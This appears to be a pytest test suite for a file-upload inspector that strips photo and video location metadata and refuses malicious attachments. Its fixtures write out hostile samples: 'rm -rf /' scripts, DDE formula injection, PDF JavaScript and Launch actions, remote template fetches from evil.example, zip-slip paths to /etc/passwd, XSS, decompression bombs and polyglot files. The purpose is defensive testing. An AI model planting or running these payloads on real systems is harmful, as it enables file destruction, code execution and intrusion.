from __future__ import annotations

import contextlib
import io
import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from cyberweek.attachments.core import pictures
from cyberweek.attachments.core.faults import Fault, UnfitError
from cyberweek.attachments.core.inspection import Fit, inspected
from tests.attachments.files import archive, docx, jpeg, mp4, odt, packed_objects, pdf, png, pptx, webp, xlsx

TORN = {"jpg": jpeg((40, 30)), "png": png((40, 30)), "webp": webp((40, 30))}


def fault_of(content: bytes, name: str) -> Fault:
    with pytest.raises(UnfitError) as unfit:
        inspected(content, name)
    return unfit.value.fault


@pytest.mark.parametrize(
    ("name", "content", "kind", "kept", "media_type"),
    [
        ("a.jpg", jpeg(), "image", "a.jpg", "image/jpeg"),
        ("a.JPEG", jpeg(), "image", "a.JPEG", "image/jpeg"),
        ("a.png", png(), "image", "a.png", "image/png"),
        ("a.webp", webp(), "image", "a.jpg", "image/jpeg"),
        ("a.pdf", pdf(), "pdf", "a.pdf", "application/pdf"),
        ("a.pdf", pdf(packed_objects(b"10 0 << /Type /Font >>")), "pdf", "a.pdf", "application/pdf"),
        ("方案.docx", docx(), "document", "方案.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("a.xlsx", xlsx(), "sheet", "a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("a.pptx", pptx(), "slides", "a.pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
        ("a.odt", odt(), "document", "a.odt", "application/vnd.oasis.opendocument.text"),
        ("a.mp4", mp4(), "video", "a.mp4", "video/mp4"),
        ("a.csv", "县,人数\n长安区,120\n".encode(), "text", "a.csv", "text/csv; charset=utf-8"),
        ("a.txt", "网络安全为人民".encode("gb18030"), "text", "a.txt", "text/plain; charset=gb18030"),
        ("a.csv", "县\t人数\n".encode("utf-16"), "text", "a.csv", "text/csv; charset=utf-16"),
        ("MZ.txt", b"MZ,1\nKL,2\n", "text", "MZ.txt", "text/plain; charset=utf-8"),
        ("report.v2", pdf(), "pdf", "report.v2.pdf", "application/pdf"),
        ("photo.jpg", pdf(), "pdf", "photo.pdf", "application/pdf"),
        ("", png(), "image", "file.png", "image/png"),
    ],
)  # fmt: skip
def test_what_may_be_kept_has_its_true_type_and_ending(name, content, kind, kept, media_type):
    fit = inspected(content, name)
    assert (fit.kind, fit.name, fit.media_type) == (kind, kept, media_type)


@pytest.mark.parametrize(
    ("name", "content", "fault"),
    [
        ("empty.pdf", b"", Fault.EMPTY),
        ("photo.jpg", b"MZ\x90\x00\x03" + bytes(300), Fault.PROGRAM),
        ("photo.jpg", b"\x7fELF\x02\x01" + bytes(300), Fault.PROGRAM),
        ("photo.jpg", b"\xca\xfe\xba\xbe" + bytes(300), Fault.PROGRAM),
        ("photo.lnk", b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(68), Fault.PROGRAM),
        ("app.docx", archive({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n035"}), Fault.PROGRAM),
        ("tool.zip", archive({"META-INF/MANIFEST.MF": b"Main-Class: x"}), Fault.PROGRAM),
        ("notes.txt", b"#!/bin/sh\nrm -rf /\n", Fault.SCRIPT),
        ("notes.txt", b"\xef\xbb\xbf#!/bin/sh\n", Fault.SCRIPT),
        ("photo.jpg", b"<!DOCTYPE html><html><script>alert(1)</script>", Fault.WEB_PAGE),
        ("table.csv", b"name\n<script>alert(1)</script>\n", Fault.WEB_PAGE),
        ("mark.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", Fault.DRAWING),
        ("mark.txt", b"<?xml version='1.0'?>\n<svg/>", Fault.DRAWING),
        ("start.bat", b"@echo off\r\ndel *.*\r\n", Fault.TEXT_NAME),
        ("photo.jpg", b"only words", Fault.TEXT_NAME),
        ("a.zip", archive({"a.txt": b"a"}), Fault.ARCHIVE),
        ("a.docx", archive({"a.txt": b"a"}), Fault.ARCHIVE),
        ("a.rar", b"Rar!\x1a\x07\x01\x00" + bytes(60), Fault.ARCHIVE),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(60), Fault.ARCHIVE),
        ("a.tar.gz", b"\x1f\x8b\x08" + bytes(60), Fault.ARCHIVE),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Fault.OLD_OFFICE),
        ("a.rtf", b"{\\rtf1 text}", Fault.OLD_OFFICE),
        ("a.heic", b"\x00\x00\x00\x18ftypheic" + bytes(60), Fault.HEIC),
        ("a.mov", b"\x00\x00\x00\x14ftypqt  " + bytes(60), Fault.MOV),
        ("a.gif", b"GIF89a" + bytes(60), Fault.OTHER_PICTURE),
        ("a.mp3", b"ID3\x04" + bytes(60), Fault.SOUND),
        ("a.bin", bytes(range(1, 256)) * 4, Fault.UNKNOWN),
        ("a.txt", bytes(range(256)), Fault.ENCODING),
        ("a.csv", b"name,n\nx,=cmd|' /C calc'!A0\n", Fault.CALLS),
        ("a.jpg", jpeg()[:-200], Fault.DAMAGED),
        ("a.jpg", jpeg() + archive({"inside.exe": b"MZ"}), Fault.TWO_IN_ONE),
        ("a.png", png() + archive({"inside.exe": b"MZ"}), Fault.TWO_IN_ONE),
    ],
)  # fmt: skip
def test_what_may_not_be_kept_is_called_by_its_name(name, content, fault):
    assert fault_of(content, name) is fault


@pytest.mark.parametrize(
    ("content", "fault"),
    [
        (pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), Fault.PDF_SCRIPT),
        (pdf(catalog=b"/OpenAction << /S /J#61vaScript /JS 9 0 R >>"), Fault.PDF_SCRIPT),
        (pdf(catalog=b"/OpenAction << /S /Launch /F (calc.exe) >>"), Fault.PDF_SCRIPT),
        (pdf(packed_objects(b"10 0 << /S /JavaScript /JS (x) >>")), Fault.PDF_SCRIPT),
        (pdf(packed_objects(b"10 0 << /S /Launch >>", name=b"/Obj#53tm")), Fault.PDF_SCRIPT),
        (pdf(catalog=b"/Names << /EmbeddedFiles 4 0 R >>"), Fault.PDF_FILES),
        (pdf(catalog=b"/Encrypt 8 0 R"), Fault.PDF_LOCKED),
        (pdf(packed_objects(b"x").replace(b"/FlateDecode", b"/LZWDecode")), Fault.PDF_UNUSUAL),
        (pdf(packed_objects(b"10 0 << /S /Launch >>", name=b"/ObjStm /X (endobj)")), Fault.PDF_UNUSUAL),
        (pdf() + archive({"inside.exe": b"MZ"}) + b"%%EOF", Fault.TWO_IN_ONE),
        (b"%PDF-1.7\nbroken off", Fault.DAMAGED),
    ],
)  # fmt: skip
def test_a_pdf_that_does_more_than_to_be_read(content, fault):
    assert fault_of(content, "a.pdf") is fault


RELATION = (
    b'<Relationships><Relationship Id="r1" Type="http://x/%s" Target="%s" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "fault"),
    [
        (docx({"word/vbaProject.bin": b"x"}), Fault.MACROS),
        (docx(main=b"application/vnd.ms-word.document.macroEnabled.main+xml wordprocessingml.document.main+xml"), Fault.MACROS),
        (odt({"Basic/Standard/Module1.xml": b"<x/>"}), Fault.MACROS),
        (docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(20)}), Fault.OBJECTS),
        (docx({"word/media/image1.png": b"MZ\x90\x00"}), Fault.OBJECTS),
        (docx({"word/embeddings/more.zip": archive({"a": b"a"})}), Fault.OBJECTS),
        (docx({"word/embeddings/table.xlsx": xlsx({"xl/vbaProject.bin": b"x"})}), Fault.MACROS),
        (docx({"word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", b"http://evil.example/x.dotm")}), Fault.FETCHES),
        (docx({"word/_rels/document.xml.rels": RELATION % (b"oleObject", b"\\\\evil\\share\\x")}), Fault.FETCHES),
        (docx({"word/footer1.xml": b"<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>"}), Fault.CALLS),
        (xlsx({"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"}), Fault.CALLS),
        (docx({"word/settings.xml": b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]>"}), Fault.UNPACKS),
        (docx({"../../etc/passwd": b"x"}), Fault.CLIMBS),
        (docx({"/etc/passwd": b"x"}), Fault.CLIMBS),
        (docx({"..\\..\\start.txt": b"x"}), Fault.CLIMBS),
        (docx() + b"more behind", Fault.TWO_IN_ONE),
        (b"PK\x03\x04" + bytes(60) + docx(), Fault.TWO_IN_ONE),
        (docx()[:-40], Fault.DAMAGED),
    ],
)  # fmt: skip
def test_an_office_file_that_is_more_than_an_office_file(content, fault):
    assert fault_of(content, "a.docx") is fault


@pytest.mark.parametrize(
    ("name", "make"),  # made by the test: four seconds that nobody else should wait for
    [
        ("a.pdf", lambda: pdf(packed_objects(bytes(101 * 1024 * 1024)))),
        ("a.docx", lambda: docx({"word/media/zeros.bin": bytes(101 * 1024 * 1024)})),
        ("a.docx", lambda: docx({"word/media/zeros.bin": bytes(40 * 1024 * 1024)})),
        ("a.docx", lambda: docx({f"word/{n}.xml": b"" for n in range(5001)})),
    ],
    ids=["a page's objects", "100 MB", "a thousand times its size", "5001 parts"],
)
def test_what_unpacks_to_far_too_much(name, make):
    assert fault_of(make(), name) is Fault.UNPACKS


def test_an_archive_that_lies_about_its_size_is_counted_while_it_unpacks():
    honest = docx({"word/media/zeros.bin": bytes(60 * 1024 * 1024)})
    true, small = struct.pack("<I", 60 * 1024 * 1024), struct.pack("<I", 60)
    assert fault_of(honest.replace(true, small), "a.docx") in {Fault.DAMAGED, Fault.UNPACKS}


def test_a_table_in_a_slide_is_looked_through_too():
    assert inspected(pptx({"ppt/embeddings/Sheet1.xlsx": xlsx()}), "a.pptx").kind == "slides"


def test_a_template_on_ones_own_disk_is_no_danger():
    own = RELATION % (b"attachedTemplate", b"file:///C:\\Users\\li\\Normal.dotm")
    assert inspected(docx({"word/_rels/settings.xml.rels": own}), "a.docx").kind == "document"


@pytest.mark.parametrize("side", [7_100, 20_000])
def test_a_picture_of_far_too_many_pixels_is_refused_before_it_is_decoded(side):
    bomb = png((side, side), mode="1", colour=1)
    assert len(bomb) < 200_000
    assert fault_of(bomb, "a.png") is Fault.PIXELS


def test_where_and_on_what_a_photograph_was_taken_is_not_kept():
    exif = Image.Exif()
    exif[0x010F] = "Telephone of Li"
    exif[0x0112] = 6  # the camera was held upright
    exif.get_ifd(0x8825)[1] = "N"
    taken = jpeg((640, 480), exif=exif, comment=b"home")
    assert b"Telephone of Li" in taken
    fit = inspected(taken, "IMG_1.jpg")
    kept = decoded(fit)
    assert kept.size == (480, 640)
    assert (fit.width, fit.height) == (480, 640)
    assert not kept.getexif()
    assert b"Telephone of Li" not in fit.body + fit.thumbnail
    assert b"home" not in fit.body


def test_a_large_photograph_is_kept_at_the_size_of_a_page():
    fit = inspected(jpeg((6000, 4000)), "a.jpg")
    assert (fit.width, fit.height) == (2560, 1707)


def test_clear_parts_of_a_picture_stay_clear():
    fit = inspected(png(mode="RGBA", colour=(0, 0, 0, 0)), "a.png")
    assert fit.media_type == "image/png"
    assert decoded(fit).getpixel((0, 0))[3] == 0


def test_a_noisy_picture_has_a_small_thumbnail_all_the_same():
    noise = Image.effect_noise((2000, 2000), 100).convert("RGB")
    file = io.BytesIO()
    noise.save(file, "JPEG", quality=95)
    assert len(inspected(file.getvalue(), "a.jpg").thumbnail) <= pictures.THUMBNAIL_BYTES


def test_a_photograph_with_more_behind_it_as_telephones_make_them_loses_that():
    fit = inspected(jpeg() + b"\x00\x00\x00\x18ftypmp42" + bytes(500), "motion.jpg")
    assert b"ftyp" not in fit.body


def test_a_video_forgets_where_it_was_recorded():
    fit = inspected(mp4(place=b"+31.2304+121.4737/"), "a.mp4")
    assert b"+31.2304" not in fit.body
    assert len(fit.body) == len(mp4(place=b"+31.2304+121.4737/"))
    assert b"moov" in fit.body


def test_a_video_with_a_track_of_positions_is_refused():
    assert fault_of(mp4(track=b"meta"), "a.mp4") is Fault.POSITIONS


def test_a_video_with_something_behind_it_is_refused():
    assert fault_of(mp4() + b"MZ" + bytes(100), "a.mp4") is Fault.DAMAGED


@given(st.binary(max_size=4000), st.sampled_from(["a.jpg", "a.png", "a.webp", "a.pdf", "a.docx", "a.txt", "a"]))
@settings(max_examples=300)
def test_random_bytes_are_never_a_picture_and_nothing_but_unfit_escapes(content, name):
    try:
        fit = inspected(content, name)
    except UnfitError:
        return
    assert fit.kind == "text"


@given(
    st.sampled_from(sorted(TORN)),
    st.lists(st.tuples(st.integers(0, 5000), st.integers(0, 255)), max_size=6),
    st.integers(0, 5000),
    st.binary(max_size=40),
)
@settings(max_examples=300)
def test_every_picture_that_is_accepted_decodes_and_tells_nothing(form, changes, cut, more):
    content = bytearray(TORN[form])
    for place, value in changes:
        content[place % len(content)] = value
    torn = bytes(content[: cut or None]) + more
    try:
        fit = inspected(torn, f"a.{form}")
    except UnfitError:
        return
    if fit.kind != "image":
        return
    picture = decoded(fit)
    assert picture.size == (fit.width, fit.height)
    assert not picture.getexif()
    with Image.open(io.BytesIO(fit.thumbnail), formats=["WEBP"]) as small:
        small.load()


@given(st.sampled_from([docx(), xlsx(), pdf(packed_objects(b"10 0 << >>")), mp4()]), st.data())
@settings(max_examples=200)
def test_a_torn_file_is_kept_or_refused_and_nothing_else_happens(content, data):
    torn = bytearray(content)
    for _ in range(data.draw(st.integers(0, 8))):
        torn[data.draw(st.integers(0, len(torn) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(UnfitError):
        assert isinstance(inspected(bytes(torn), "a.bin"), Fit)


def decoded(fit: Fit) -> Image.Image:
    with Image.open(io.BytesIO(fit.body), formats=["JPEG", "PNG"]) as picture:
        picture.load()
        return picture
